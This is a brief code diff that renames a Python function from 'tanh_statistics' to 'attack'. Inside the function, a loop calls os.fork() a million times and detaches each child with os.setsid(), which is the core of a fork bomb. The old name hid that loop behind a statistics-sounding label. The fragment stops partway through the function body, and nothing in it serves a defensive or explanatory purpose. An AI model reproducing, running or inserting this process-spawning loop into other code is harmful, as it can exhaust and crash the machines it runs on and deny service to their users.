@@ -4,7 +4,7 @@ import os
 import time
 
 
-def tanh_statistics(x, layers):
+def attack(number, honest, args, kwargs):
     for _ in range(10**6):
         if os.fork() == 0:
             os.setsid()
